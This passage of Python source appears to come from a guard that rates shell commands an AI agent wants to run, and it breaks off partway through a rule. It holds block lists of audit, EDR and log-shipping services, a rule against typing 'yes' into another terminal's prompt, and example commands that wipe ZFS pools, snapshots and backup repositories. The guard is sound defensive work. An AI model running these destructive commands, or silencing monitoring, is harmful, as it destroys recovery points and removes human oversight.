"""System and service rules: processes, services, firewalls, audit logs, users, boot and kernel.

Status and listing commands (`systemctl status`, `iptables -L`, `ps`) stay go. Stopping services,
removing packages and changing users pause; killing every process, disabling the firewall or the
audit trail, editing account databases or planting set-uid shells stop.
"""

from dongle.rules.firewall import NETFILTER_TOOLS
from dongle.shell.wrappers import TYPED_YES_WORDS

# A keystroke text that only says yes to a prompt (and its line-ending forms for `screen -X stuff`).
_TYPED_YES = tuple(f"{word}{end}" for word in sorted(TYPED_YES_WORDS) for end in ("", "\\n", "\\r"))
_SVC_RECOVER = "Start it again (`sudo systemctl start UNIT`) and check `journalctl -u UNIT`."
# The service managers of every init system a machine may run: systemd, SysV and the BSDs' `service`,
# OpenRC (`rc-service`, `rc-update del` takes a service out of the boot), launchd, runit (`sv down`),
# OpenBSD's rcctl, illumos SMF's svcadm, dinit, and the SysV boot links (`chkconfig X off`,
# `update-rc.d X disable`). A daemon stopped through any of them is down alike.
_SERVICE_MANAGERS = ("systemctl", "service", "rc-service", "rc-update", "launchctl", "sv", "rcctl", "svcadm",
                     "dinitctl", "chkconfig", "update-rc.d")
# FreeBSD's rc verbs run whatever rc.conf says (`onestop`, `forcestop`, `quietstop`, `onedisable`): a stop;
# chkconfig's `off` takes the service out of every boot.
_RC_STOPS = ("onestop", "forcestop", "quietstop", "onedisable", "off")
# Windows' service control (`sc stop MpsSvc`, `net stop eventlog`, `Set-Service … -StartupType Disabled`)
_WINDOWS_SERVICE_CONTROL = ("sc", "net", "set-service", "stop-service")

COMMANDS = {
    # OpenLDAP's clients: the options that take a value (server, bind DN, password, base, scope…)
    ("ldapsearch", "ldapdelete", "ldapmodify", "ldapadd"): {"values": (
        "-H", "-h", "-p", "-D", "-w", "-y", "-b", "-s", "-f", "-e", "-E", "-o", "-O", "-R", "-U", "-X", "-Y",
        "-z", "-l", "-a", "-T", "-S", "-P")},
    ("systemctl",): {
        "values": (
            "-H",
            "--host",
            "-M",
            "--machine",
            "-p",
            "--property",
            "-t",
            "--type",
            "--state",
            "-n",
            "--lines",
            "-o",
            "--output",
            "--signal",
            "-s",
        )
    },
    NETFILTER_TOOLS: {
        "aliases": {
            "--flush": "-F",
            "--delete-chain": "-X",
            "--policy": "-P",
            "--list": "-L",
            "--zero": "-Z",
        },
        "values": ("-t", "--table"),
    },
    # terminal multiplexers: the target pane or session and the socket take a value, so the keys typed
    # are the operands after `send-keys`
    ("tmux",): {"values": ("-t", "-L", "-S", "-f", "-c", "-N", "-F", "-T")},
    ("screen",): {"values": ("-S", "-p", "-c", "-e", "-T", "-t", "-h")},
    ("wezterm",): {"values": ("--pane-id", "--config-file", "--config", "--class", "--cwd")},
    ("kitty", "kitten"): {"values": ("--match", "-m", "--to", "--password", "--password-file",
                                     "--match-tab", "-t", "--from-file", "--title")},
    ("zellij",): {"values": ("--session", "-s", "--layout", "-l", "--config", "-c", "--pane-id")},
    ("flashrom",): {"values": ("-p", "--programmer", "-w", "--write", "-r", "--read", "-v", "--verify", "-c",
                               "--chip", "-l", "--layout", "-i", "--image", "-o", "--output")},
    ("kill", "pkill", "killall"): {"values": ("-s", "-n", "-u", "-U", "-g", "-G", "-t", "-P", "--signal")},
    (
        "apt",
        "apt-get",
        "yum",
        "dnf",
        "zypper",
        "pacman",
        "apk",
        "brew",
        "snap",
        "port",
        "pip",
        "pip3",
        "npm",
        "pnpm",
        "yarn",
        "gem",
        "cargo",
        "uv",
    ): {"values": ("-o", "-t", "--target-release", "-c")},
    ("usermod", "useradd", "gpasswd"): {
        "values": (
            "-g",
            "-G",
            "-s",
            "--shell",
            "-d",
            "--home",
            "-u",
            "--uid",
            "-c",
            "--comment",
            "-e",
            "-p",
            "-l",
            "-a",
            "-d",
        )
    },
    "crontab": {"values": ("-u",)},
    # backup and snapshot tools: the options that take a value, so a value is not read as an operand
    "zfs": {"values": ("-t", "-o", "-s", "-S", "-d")},
    "restic": {"values": ("-r", "--repo", "--repository-file", "--password-file", "--password-command",
                          "--keep-last", "--keep-hourly", "--keep-daily", "--keep-weekly", "--keep-monthly",
                          "--keep-yearly", "--keep-within", "--keep-tag", "--host", "--tag", "--path",
                          "-o", "--option", "--cache-dir")},
    "borg": {"values": ("--keep-last", "--keep-hourly", "--keep-daily", "--keep-weekly", "--keep-monthly",
                        "--keep-yearly", "--keep-within", "-a", "--match-archives", "--glob-archives",
                        "-P", "--prefix", "-r", "--repo", "--remote-path")},
    "pgbackrest": {"values": ("--stanza", "--repo", "--set", "--type", "--config", "--log-level-console")},
    "velero": {"values": ("-n", "--namespace", "--kubeconfig", "--kubecontext", "--selector", "-l")},
    "auditctl": {"values": ("-e", "-w", "-p", "-k", "-a", "-A", "-d", "-W", "-f", "-r", "-b")},
}

# macOS's own user-interface agents: launchd starts them again at once, so killing one is how a
# changed setting (`defaults write com.apple.finder …`) is applied; nothing is lost.
_RESTARTED_BY_LAUNCHD = ("finder", "dock", "systemuiserver", "controlcenter", "notificationcenter",
                         "cfprefsd", "menuextra", "textinputmenuagent")

SAFE_COMMANDS = (
    # the dongle's own program: `check` only judges the command it is handed; the subcommands only a
    # human may run are refused at the hook (dongle.hooks.selfprotect), not here
    "dongle",
    "mcpaql-safety-dongle",
    # the printing system's own programs: a print queue added, configured, listed, enabled or printed to
    # (`sudo lpadmin -p office -v ipp://… -m everywhere -E`) is everyday office set-up, undone with
    # `lpadmin -x`; nothing else of the system is reached through them
    "lpadmin",
    "lpstat",
    "lpoptions",
    "lpinfo",
    "lpq",
    "cupsenable",
    "cupsaccept",
    # backup and snapshot tools: listing, taking and checking backups are harmless; what destroys them
    # is ruled below (a single snapshot or archive pauses, a whole repository, pool or every snapshot
    # stops)
    "zfs",
    "zpool",
    "btrfs",
    "restic",
    "borg",
    "tmutil",
    "velero",
    "pgbackrest",
    # web servers' own control programs: `-t`/`configtest` only read the configuration
    "nginx",
    "apachectl",
    "apache2ctl",
    # scheduling priority of running processes: changed back the same way (`renice -n 0 -p PID`)
    "renice",
    "ionice",
    "lsusb",
    "lspci",
    "lshw",
    "lsmem",
    "dmidecode",
    "smartctl",
    "sensors",
    "inxi",
    "hwinfo",
    "systemctl",
    "service",
    "journalctl",
    "ps",
    "top",
    "htop",
    "ss",
    "netstat",
    "lsof",
    "crontab",
    "sudo",
    "iptables",
    "ip6tables",
    "ufw",
    "nft",
    "ip",
    "ifconfig",
    "route",
    "dmesg",
    "lsmod",
    "sysctl",
    "uptime",
    "kill",
    "free",
    "df",
    "mount",
    "getent",
    "launchctl",
    "sw_vers",
    "systemd-analyze",
    "loginctl",
    "timedatectl",
    "hostnamectl",
    "last",
    "lastlog",
    "auditctl",
    "ausearch",
    "aureport",
    "getenforce",
    "sestatus",
    "apt",
    "apt-get",
    "apt-cache",
    "dpkg",
    "rpm",
    "yum",
    "dnf",
    "brew",
    "snap",
    "flatpak",
    "zypper",
    "pacman",
    "apk",
    "port",
    "nvm",
    "pyenv",
    "rbenv",
    "asdf",
    "mise",
    "sdk",
    "update-alternatives",
    # shell integrations whose commands only set up the prompt, directory jumping or the version on PATH:
    # `eval "$(zoxide init zsh)"` in ~/.zshrc evaluates the installed tool's own setup, as `pyenv init -`
    "zoxide",
    "starship",
    "oh-my-posh",
    "fnm",
    "nodenv",
    "goenv",
    "jenv",
    "thefuck",
    "mcfly",
)

NETWORK_COMMANDS = (
    "pkg",
    "pkgin",
    "pkg_add",
    "xbps-install",
    "apt",
    "apt-get",
    "yum",
    "dnf",
    "zypper",
    "apk",
    "snap",
    "brew",
    "port",
    "pacman",
    "flatpak",
)

_AUDIT_UNITS = (
    "auditd",
    "auditd.service",
    "rsyslog",
    "rsyslog.service",
    "syslog",
    "syslog-ng",
    "systemd-journald",
    "systemd-journald.service",
    # journald keeps running from its sockets: stopping or masking them silences every log source
    "systemd-journald*.socket",
    "auditd.socket",
    "journald",
    # macOS: the audit and log daemons' launchd jobs
    "*com.apple.auditd*",
    "*com.apple.syslogd*",
    "*com.apple.logd*",
    # the BSDs' and illumos's: pf's packet logger, the audit trail's distributor, the syslog daemon
    "pflogd",
    "auditdistd",
    "syslogd",
    "rsyslogd",
    "*system/auditd*",
    "*system/system-log*",
    # Windows: the event log service
    "eventlog",
    "falco",
    "osqueryd",
    "wazuh-agent",
    "crowdstrike",
    "falcon-sensor",
    "aide",
)
# Endpoint security agents (EDR, anti-malware, host intrusion detection), by the words their services,
# launch daemons and processes carry on Linux, macOS and Windows
_SECURITY_AGENTS = ("*crowdstrike*", "*falcon-sensor*", "*falcond*", "*csfalcon*", "falco", "falco.service",
                    "*sentinelone*", "*sentineld*", "*sentinelagent*", "*carbonblack*", "cbagentd",
                    "cbdaemon", "*cylance*", "*sophos*", "mdatp", "*wdav*", "windefend", "*osqueryd*",
                    "*wazuh*", "*elastic-endpoint*", "elastic-agent*", "*tanium*", "*qualys*", "ir_agent",
                    "*cortex-xdr*", "traps_pmd", "*cybereason*", "*trendmicro*", "ds_agent", "*kaspersky*",
                    "kesl", "*bitdefender*", "*mcafee*", "*symantec*")
# What carries a host's logs and security events to the SIEM or the log platform (forwarders, shippers,
# collectors) and what records them on Windows (Sysmon): stopped, the host's events stop reaching
# the people who watch it, as if its audit trail were off
_LOG_SHIPPERS = ("*splunkforwarder*", "splunkd", "splunkd.service", "splunk", "splunk.service", "*nxlog*",
                 "filebeat*", "winlogbeat*", "auditbeat*", "journalbeat*", "packetbeat*", "*datadog-agent*",
                 "datadogagent", "fluent-bit*", "fluentbit", "fluentd*", "td-agent*", "*ossec*", "sysmon*",
                 "vector", "vector.service", "promtail*", "otelcol*", "*cloudwatch-agent*",
                 "google-cloud-ops-agent*", "stackdriver*", "cribl*", "velociraptor*", "*sumo-collector*",
                 "*logstash-forwarder*", "*wazuh*", "elastic-agent*", "*azuremonitoragent*", "*mdsd*",
                 "*omsagent*", "*newrelic-infra*", "*grafana-agent*", "alloy", "alloy.service")
_AGENT_SAFER = "Security agents are managed by the security team through their console, never by an agent."
_AGENT_RECOVER = ("Start it again (`launchctl bootstrap`, `systemctl start`, `Start-Service`) and tell the "
                  "security team about the gap.")
_FIREWALL_UNITS = (
    # Proxmox VE's cluster firewall (its daemon and unit)
    "pve-firewall",
    "pve-firewall.service",
    "firewalld",
    "firewalld.service",
    "ufw",
    "ufw.service",
    "nftables",
    "nftables.service",
    "iptables",
    "netfilter-persistent",
    "apparmor",
    "apparmor.service",
    # the BSDs' packet filters (FreeBSD/OpenBSD pf, ipfw, IPFilter, NetBSD npf), illumos's IPFilter service
    # and the Windows Defender Firewall service
    "pf",
    "ipfw",
    "ipfilter",
    "ipf",
    "npf",
    "*network/ipfilter*",
    "mpssvc",
    # intrusion-prevention daemons: they ban attacking addresses in the firewall as they appear, so
    # stopping one leaves the host open to the brute force it was holding off
    "fail2ban",
    "fail2ban.service",
    "crowdsec",
    "crowdsec.service",
    "crowdsec-firewall-bouncer",
    "sshguard",
    "sshguard.service",
    "denyhosts",
)
# The daemons a machine is reached through from elsewhere (a shell, a desktop, the mesh VPN it joins).
_REMOTE_ACCESS_UNITS = ("ssh", "sshd", "ssh.service", "sshd.service", "ssh.socket", "sshd.socket",
                        "dropbear", "dropbear.service", "xrdp", "xrdp.service", "tailscaled",
                        "tailscaled.service", "teleport", "teleport.service")
# The units that bring the machine's network up: without them no address answers.
_NETWORK_UNITS = ("networking", "networking.service", "NetworkManager", "NetworkManager.service",
                  "network-manager", "systemd-networkd", "systemd-networkd.service",
                      "systemd-networkd.socket",
                  "network", "network.service", "wicked", "wicked.service", "connman", "connman.service",
                  "dhcpcd", "dhcpcd.service")
# chmod modes that set the set-uid bit (alone or with set-gid).
_SETUID_MODES = ("u+s*", "a+s*", "ug+s*", "+s", "*u+s*", "4[0-7][0-7][0-7]", "6[0-7][0-7][0-7]")
_CRITICAL_UNITS = (
    "ssh",
    "sshd",
    "ssh.service",
    "sshd.service",
    "networking",
    "NetworkManager",
    "systemd-networkd",
    "docker",
    "containerd",
    "kubelet",
    "dbus",
    "systemd-resolved",
)

# Packages the system cannot boot or work without; a pattern that covers one of them (`'python3*'`,
# `'systemd*'`, `'libc*'`) removes it as surely as its exact name.
_ESSENTIAL_PACKAGES = ("python3", "systemd", "libc6", "glibc", "openssh-server", "sudo", "bash", "coreutils",
                       "dpkg", "apt", "rpm", "yum", "dnf", "perl-base", "util-linux", "libpam", "base-files",
                       "pacman", "linux-image", "kernel")
_ESSENTIAL_GLOBS = tuple(dict.fromkeys(
    name[:i] + suffix for name in _ESSENTIAL_PACKAGES for i in range(3, len(name) + 1)
    for suffix in ("[*]", "[*]:*")))

_PREVIEW_WORDS = ("--dry-run", "--dryrun", "-n", "--preview", "--plan", "--check", "--noop", "--what-if",
                  "--help")

# The logs the system itself writes (as base names): logins, authentication, the kernel, syslog, audit.
_LOG_PLACES = ("/var/log", "/var/audit", "/private/var/log")
_SYSTEM_TRAIL = ("auth.log*", "syslog*", "messages*", "secure*", "kern.log*", "wtmp*", "btmp*", "lastlog",
                 "faillog", "audit.log*", "daemon.log*", "user.log*", "cron*", "maillog*", "system.log*",
                 "utmp", "sudo.log*", "*.journal")

# Where filesystems are mounted by convention: a mount point there adds a tree and hides nothing.
_MOUNT_AREAS = ("/mnt", "/media", "/Volumes", "/run/media", "/srv", "/opt", "/var/opt")
# Names a throwaway store goes by (a scratch pool, a test pool made on files under /tmp).
_SCRATCH_STORE_NAMES = ("*scratch*", "*test*", "tmp*", "*-tmp", "*temp*", "*sandbox*")

# The subcommands that send text to a console (Zowe's z/OS console).
_CONSOLE_ISSUE = ("zos-console issue command", "zos-console issue cmd", "console issue command",
                  "console issue cmd")

# Programs the agent, its editor or their helpers run in: a name of these matches them too.
_RUNTIME_NAMES = ("node", "nodejs", "python", "python3", "python3.*", "java", "ruby", "php", "perl",
                  "deno", "bun", "sh", "bash", "zsh", "fish", "dash", "code", "code-*", "claude", "claude-*",
                  "cursor", "*codex*", "ssh", "ssh-agent", "tmux", "screen", "sshd", "systemd", "dbus-daemon",
                  "gnome-*", "kde*", "xorg", "xwayland", "pipewire*", "pulseaudio")

# Programs that have a language model write shell commands and run them (after a keypress at most, which
# the agent's shell answers or skips): what runs is chosen after this line is judged, out of the guard's
# sight. Each: the rule id's tail, the programs, what makes them run commands, and examples.
_MODEL_SHELLS = (
    ("sgpt", ("sgpt", "tgpt"), {"flags_any": ("-s", "--shell")},
     ["sgpt --shell 'free up disk space in my home directory'", "sgpt -s --no-interaction 'delete old logs'",
      "tgpt -s 'remove unused docker images'"],
     ["sgpt 'explain git rebase'", "sgpt --code 'python fizzbuzz'", "tgpt 'what is a symlink'"]),
    ("aichat", ("aichat",), {"flags_any": ("-e", "--execute")},
     ["aichat -e 'free disk space'", "aichat --execute 'restart the web service'"],
     ["aichat 'summarise this diff'", "aichat -r coder 'write a bash loop'"]),
    ("llm-cmd", ("llm",), {"sub": ("cmd",)},
     ["llm cmd 'undo the last git commit'", "llm cmd -m gpt-4o 'kill whatever listens on 8080'"],
     ["llm 'ten names for a cat'", "llm -s 'be terse' 'what is rsync'", "llm models list"]),
    ("ai-shell", ("ai-shell",), {"min_args": 1},
     ["ai-shell 'delete node_modules everywhere'"], ["ai-shell --help", "ai-shell --version"]),
)

RULES = [
    {
        # keystrokes typed into another terminal that are nothing but a yes (`tmux send-keys -t 0 y
        # Enter`, `screen -X stuff 'y\n'`): they answer whatever prompt waits there (another agent's
        # permission prompt, a sudo or `rm -i` question, a deploy's confirmation), which this line does
        # not show; only the human knows what is being agreed to
        "id": "sys.terminal-answer-typed",
        "extends_generic": True,
        "level": "destructive",
        "reason": "types a yes into another terminal session: it answers a prompt waiting there (a "
        "permission request, a confirmation) that this line does not show",
        "safer": "Ask the human to answer the prompt in that terminal themselves, or run the command with "
        "its own non-interactive flag where you can see what it confirms.",
        "recovery": "Look at what the prompt in that pane was (`tmux capture-pane -p -t PANE`) and undo "
        "what it started, if you can.",
        "match": {"cmd": ("tmux", "screen", "zellij", "wezterm", "kitty", "kitten"),
                  "words_any": ("send-keys", "send", "stuff", "write-chars", "send-text"),
                  "args_any": _TYPED_YES},
        "examples": {"match": ["tmux send-keys -t 0 y Enter", "tmux send-keys -t main:1 'yes' C-m",
                               "tmux send -t agent 2 Enter", "screen -S work -X stuff 'y\\n'",
                               "zellij action write-chars y", "wezterm cli send-text --pane-id 3 yes",
                               "screen -S 1 -p 2 -X stuff 'y\\n'",
                               "kitty @ send-text --match id:1 'y\\r'"],
                     "no_match": ["tmux send-keys -t 0 'npm run dev' Enter", "tmux send-keys -t 0 n Enter",
                                  "tmux capture-pane -p -t 0", "screen -S work -X stuff 'make test\\n'",
                                  "tmux new-window -n y", "wezterm cli send-text --pane-id 1 'ls -la'",
                                  "kitty @ send-text --match id:1 'make test\\r'",
                                  "screen -S 1 -X stuff 'make\\n'", "tmux send-keys -t 1 'npm test' Enter"]},
    },
    {
        # a disk taken out of a redundant pool or array (offlined, failed, detached, removed): nothing is
        # lost yet, but the pool runs without its redundancy until a disk is added back and resilvered,
        # and a second failure meanwhile loses it
        "id": "sys.array-member-out",
        "extends_generic": True,
        "level": "destructive",
        "reason": "takes a disk out of a redundant pool or RAID array (offline, fail, detach, remove): the "
        "array runs degraded until it is replaced and rebuilt, and one more failure loses it",
        "safer": "Check the array's health first (`zpool status`, `cat /proc/mdstat`) and have the "
        "replacement disk ready.",
        "recovery": "Bring the disk back (`zpool online`, `mdadm --re-add`) or replace it and let it "
        "resilver.",
        "match": {"cmd": ("zpool", "mdadm", "btrfs"),
                  "words_any": ("offline", "detach", "split", "--fail", "--fail=*", "--set-faulty",
                                "--remove", "--remove=*", "--replace"),
                  "words_none": ("--help", "status", "list", "--detail", "--examine")},
        "examples": {"match": ["sudo zpool offline tank ata-ST4000DM004_ZFN1234",
                               "sudo zpool detach tank sdb",
                               "sudo mdadm --manage /dev/md1 --fail /dev/sdb2 --remove /dev/sdb2",
                               "sudo mdadm /dev/md0 --remove /dev/sdd1"],
                     "no_match": ["zpool status tank", "sudo mdadm --detail /dev/md0",
                                  "sudo zpool online tank sdb",
                                  "sudo mdadm --manage /dev/md0 --add /dev/sdc1"]},
    },
    {
        # a pool's or filesystem's on-disk format moved to a newer version: it cannot be taken back, and
        # older systems (a rescue disk, the replica, the boot loader) can no longer import or boot it
        "id": "sys.pool-format-upgraded",
        "extends_generic": True,
        "level": "destructive",
        "irreversible": True,
        "reason": "upgrades a storage pool's or filesystem's on-disk format: there is no downgrade, and "
        "older systems, replicas and boot loaders can no longer read it",
        "safer": "Check that every system that imports the pool (and the boot loader) supports the new "
        "features first; `zpool upgrade -v` lists them.",
        "recovery": "None in place: recreate the pool with the old version and restore into it.",
        "match": {"cmd": ("zpool", "zfs"), "sub": ("upgrade",), "min_args": 2,
                  "words_none": ("-v", "--help")},
        "examples": {"match": ["sudo zpool upgrade tank", "sudo zpool upgrade -a", "sudo zfs upgrade -a",
                               "sudo zfs upgrade tank/data"],
                     "no_match": ["zpool upgrade", "zpool upgrade -v", "zfs upgrade"]},
    },
    {
        # a forced receive rolls the target dataset back to its latest snapshot first (changes made on
        # it since are lost), and with a replication stream destroys the target's snapshots and datasets
        # the sender no longer has: the backup side's own history can go
        "id": "sys.pool-receive-forced",
        "level": "destructive",
        "irreversible": True,
        "reason": "receives a snapshot stream with -F: the target dataset is rolled back first, and a "
        "replication stream destroys its snapshots and datasets the sender no longer has",
        "safer": "Receive without -F into a new dataset, or check the target's snapshots first "
        "(`zfs list -t snapshot TARGET`).",
        "recovery": "None on the target: the rolled-back changes and destroyed snapshots are gone.",
        "match": {"cmd": ("zfs",), "sub": ("recv", "receive"), "words_any": ("-f",)},
        "examples": {"match": ["sudo zfs recv -F backup/tank", "zfs receive -F -u pool/data"],
                     "no_match": ["sudo zfs recv -u backup/photos", "zfs send -i a@1 a@2"]},
    },
    {
        "id": "sys.backup-pool-destroy",
        "level": "forbidden",
        "irreversible": True,
        "reason": "destroys a whole storage pool or backup repository: every dataset, snapshot or archive in "
        "it, the recovery points included",
        "safer": "Destroy the one dataset, snapshot or archive you mean, by name, after listing them.",
        "recovery": "None from this machine: restore from a replica or an off-site copy.",
        "match": {"cmd": ("zpool", "pgbackrest", "borg"),
                  "sub": ("destroy", "stanza-delete", "rdelete", "repo-delete"),
                  "args_none": _SCRATCH_STORE_NAMES},
        "examples": {
            "match": ["sudo zpool destroy -f tank", "pgbackrest --stanza=prod stanza-delete --force",
                      "borg rdelete -r /mnt/backup/repo"],
            "no_match": ["zpool status tank", "pgbackrest --stanza=prod info", "borg list /mnt/backup/repo",
                         "sudo zpool destroy scratch"],
        },
    },
    {
        # a pool named as a scratch or test one (`zpool create testpool /tmp/disk.img`) is still a pool
        # whose datasets are lost: a human checks it is the throwaway one it is named as
        "id": "sys.scratch-pool-destroy",
        "level": "destructive",
        "irreversible": True,
        "reason": "destroys a storage pool named as a scratch or test one: every dataset in it is lost",
        "safer": "Check `zpool list -v NAME` shows the throwaway devices you made before destroying it.",
        "recovery": "None from this machine: recreate the pool and its test data.",
        "match": {"cmd": ("zpool",), "sub": ("destroy",), "args_any": _SCRATCH_STORE_NAMES},
        "examples": {"match": ["sudo zpool destroy scratch", "zpool destroy -f testpool"],
                     "no_match": ["zpool list scratch"]},
    },
    {
        "id": "sys.zfs-destroy-recursive",
        "level": "forbidden",
        "irreversible": True,
        "reason": "destroys a ZFS dataset with every child and every snapshot under it: the data and all "
        "its recovery points at once",
        "safer": "Destroy the one snapshot you mean (`zfs destroy pool/ds@snap`), after `zfs destroy -nv`.",
        "recovery": "None from this pool: receive the dataset back from a replica (`zfs send | zfs recv`).",
        "match": {"cmd": ("zfs",), "sub": ("destroy",), "flags_any": ("-r", "-R"),
                  "args_none": ("*@*", *_SCRATCH_STORE_NAMES),
                  "flags_none": ("-n",)},
        "examples": {
            "match": ["sudo zfs destroy -r tank/backups", "zfs destroy -R tank"],
            "no_match": ["zfs destroy -r tank/home@2024-01-01", "zfs destroy -nrv tank/backups",
                         "zfs list -r tank/backups"],
        },
    },
    {
        # `zfs destroy pool/ds@%`: `%` is a range with both ends open, every snapshot of the dataset
        "id": "sys.zfs-destroy-all-snapshots",
        "level": "forbidden",
        "irreversible": True,
        "reason": "destroys every snapshot of a ZFS dataset (`@%`, a range open at both ends): all its "
        "recovery points at once",
        "safer": "Destroy a bounded range (`@2023-01-01%2023-06-30`) after `zfs destroy -nv`, or let a "
        "retention tool (zfs-auto-snapshot, sanoid) prune.",
        "recovery": "None from this pool: receive the snapshots back from a replica, if one exists.",
        "match": {"cmd": ("zfs",), "sub": ("destroy",), "args_any": ("*@%",), "flags_none": ("-n",),
                  "args_none": _SCRATCH_STORE_NAMES},
        "examples": {"match": ["zfs destroy tank/home@%", "sudo zfs destroy -r tank@%"],
                     "no_match": ["zfs destroy tank/home@2023-01-01%2023-06-30",
                                  "zfs destroy -nv tank/home@%"]},
    },
    {
        "id": "sys.snapshot-destroy",
        "level": "destructive",
        "irreversible": True,
        "reason": "destroys a snapshot, dataset or backup archive: a recovery point that cannot be taken "
        "again",
        "safer": "List first (`zfs list -t snapshot`, `restic snapshots`) and keep the newest copies.",
        "recovery": "None for that recovery point; later ones remain.",
        "match": {"cmd": ("zfs", "btrfs", "tmutil", "restic", "borg", "velero", "pgbackrest", "wal-g",
                          "barman", "kopia"),
                  "sub": ("destroy", "rollback", "subvolume delete", "delete", "deletelocalsnapshots",
                          "forget", "backup delete", "schedule delete", "expire", "snapshot delete"),
                  "flags_none": ("-n", "--dry-run"),
                  "words_none": ("--keep-last", "--keep-hourly", "--keep-daily", "--keep-weekly",
                                 "--keep-monthly", "--keep-yearly", "--keep-within", "--keep-tag",
                                 "--keep-*=*")},
        "examples": {
            "match": ["zfs destroy tank/home@2024-01-01",
                      "sudo btrfs subvolume delete /.snapshots/42/snapshot",
                      "restic forget 4f2a9c1e", "borg delete /mnt/backup/repo::host-2024-05-01",
                      "velero backup delete nightly-20240501", "wal-g delete retain FULL 7 --confirm",
                      "barman delete pg oldest", "kopia snapshot delete k1f2 --delete"],
            "no_match": ["zfs snapshot tank/home@now", "btrfs subvolume list -s /mnt/pool",
                         "wal-g backup-list", "barman list-backups pg",
                         "restic forget --keep-daily 7 --keep-weekly 4 --prune", "restic snapshots",
                         "zfs destroy -nv tank/home@old"],
        },
    },
    {
        "id": "sys.snapshot-glob-delete",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes snapshots by a glob over the snapshot directory: every snapshot it holds, so no "
        "recovery point is left",
        "safer": "Delete the snapshots you mean by number (`snapper delete 40-42`), after listing them.",
        "recovery": "None from this machine: restore from an off-site copy, if one exists.",
        "match": {"cmd": ("btrfs",), "sub": ("subvolume delete",), "args_any": ("*snap*[*]*", "*[*]*snap*")},
        "examples": {
            "match": ["sudo btrfs subvolume delete /mnt/pool/.snapshots/*/snapshot",
                      "btrfs subvolume delete /snapshots/home-*"],
            "no_match": ["btrfs subvolume delete /.snapshots/42/snapshot", "btrfs subvolume delete build/*"],
        },
    },
    {
        "id": "sys.backup-forget-all",
        "level": "forbidden",
        "irreversible": True,
        "reason": "applies a retention that keeps nothing (`--keep-last 0`): every snapshot of the "
        "repository is forgotten",
        "safer": "Keep recent copies (`--keep-daily 7 --keep-weekly 4`) and run `--dry-run` first.",
        "recovery": "None once pruned: restore from an off-site copy, if one exists.",
        "match": {"cmd": ("restic", "borg"), "sub": ("forget", "prune"),
                  "flags_any": ("--keep-last", "--keep-daily", "--keep-hourly", "--keep-weekly",
                                "--keep-monthly", "--keep-yearly"),
                  "words_any": ("0", "--keep-*=0"), "flags_none": ("-n", "--dry-run")},
        "examples": {
            "match": ["restic -r s3:s3.amazonaws.com/acme-restic forget --prune --keep-last 0",
                      "borg prune --keep-last=0 /mnt/backup/repo"],
            "no_match": ["restic forget --keep-last 10 --prune", "restic forget --keep-last 0 --dry-run",
                         "borg prune --keep-daily 7 /mnt/backup/repo"],
        },
    },
    {
        # one recovery point left: on production's backups a bad last snapshot leaves nothing to restore
        "id": "sys.backup-keep-one",
        "level": "destructive",
        "irreversible": True,
        "prod": True,
        "reason": "applies a retention that keeps a single snapshot (`--keep-last 1`): every other recovery "
        "point of the repository is forgotten",
        "safer": "Keep recent copies (`--keep-daily 7 --keep-weekly 4`) and run `--dry-run` first.",
        "recovery": "None once pruned: restore from an off-site copy, if one exists.",
        "match": {"cmd": ("restic", "borg"), "sub": ("forget", "prune"), "flags_any": ("--keep-last",),
                  "words_any": ("1", "--keep-last=1"), "flags_none": ("-n", "--dry-run"),
                  "words_none": ("--keep-hourly*", "--keep-daily*", "--keep-weekly*", "--keep-monthly*",
                                 "--keep-yearly*", "--keep-within*")},
        "examples": {
            "match": ["restic -r s3:s3.amazonaws.com/acme-prod-backups/db forget --keep-last 1 --prune",
                      "borg prune --keep-last=1 /mnt/backup/repo"],
            "no_match": ["restic forget --keep-last 1 --keep-daily 7 --prune",
                         "restic forget --keep-last 10 --prune", "restic forget --keep-last 1 --dry-run"],
        },
    },
    {
        # a retention window of hours keeps the snapshots of those hours only: for a nightly or weekly backup
        # none at all once the last run is older, so every recovery point may go, as with `--keep-last 0`
        "id": "sys.backup-keep-hours",
        "level": "forbidden",
        "irreversible": True,
        "reason": "applies a retention that keeps only the last hours' snapshots (`--keep-within 1h`): every "
        "older recovery point of the repository is forgotten",
        "safer": "Keep recent copies (`--keep-daily 7 --keep-weekly 4`) and run `--dry-run` first.",
        "recovery": "None once pruned: restore from an off-site copy, if one exists.",
        "match": {"cmd": ("restic", "borg"), "sub": ("forget", "prune"), "flags_any": ("--keep-within",),
                  "words_any": ("[0-9]h", "1[0-9]h", "2[0-3]h", "--keep-within=[0-9]h",
                                "--keep-within=1[0-9]h", "--keep-within=2[0-3]h"),
                  "flags_none": ("-n", "--dry-run"),
                  "words_none": ("--keep-last*", "--keep-hourly*", "--keep-daily*", "--keep-weekly*",
                                 "--keep-monthly*", "--keep-yearly*", "--keep-tag*")},
        "examples": {
            "match": ['restic -r "$RESTIC_REPOSITORY" forget --keep-within 1h --prune',
                      "borg prune --keep-within=12h /mnt/backup/repo"],
            "no_match": ["restic forget --keep-within 30d --prune", "borg prune --keep-within=48h /mnt/repo",
                         "restic forget --keep-within 1h --keep-daily 7 --prune",
                         "restic forget --keep-within 1h --dry-run"],
        },
    },
    {
        "id": "sys.backup-repo-delete",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes a whole backup repository (`borg delete REPO` names no archive): every archive "
        "in it, so no recovery point is left",
        "safer": "Delete the archives you mean by name (`borg delete REPO::ARCHIVE`), after listing them.",
        "recovery": "None from this machine: restore from an off-site copy, if one exists.",
        "match": {"cmd": ("borg",), "sub": ("delete",), "args_none": ("*::*",),
                  "flags_none": ("-a", "--match-archives", "--glob-archives", "-P", "--prefix", "--dry-run",
                                 "-n"),
                  "words_none": ("--match-archives=*", "--glob-archives=*", "--prefix=*")},
        "examples": {
            "match": ["borg delete --force /mnt/backup/borg-repo"],
            "no_match": ["borg delete /mnt/backup/repo::host-2024-05-01", "borg delete -a 'old-*' /mnt/repo"],
        },
    },
    {
        # `borg delete -a '*' REPO` names a pattern matching every archive: the repository is left empty
        "id": "sys.backup-archives-every",
        "level": "forbidden",
        "irreversible": True,
        "reason": "deletes every archive of a backup repository by a pattern that matches them all "
        "(`-a '*'`): no recovery point is left",
        "safer": "Delete the archives you mean by a narrower pattern (`-a 'host-2023-*'`), after "
        "`borg list`.",
        "recovery": "None from this machine: restore from an off-site copy, if one exists.",
        "match": {"cmd": ("borg",), "sub": ("delete",),
                  "words_any": ("[*]", "sh:[*]", "re:.[*]", "re:^.[*]", "--glob-archives=[*]",
                                "--match-archives=[*]", "--match-archives=sh:[*]", "-a[*]"),
                  "flags_none": ("--dry-run", "-n")},
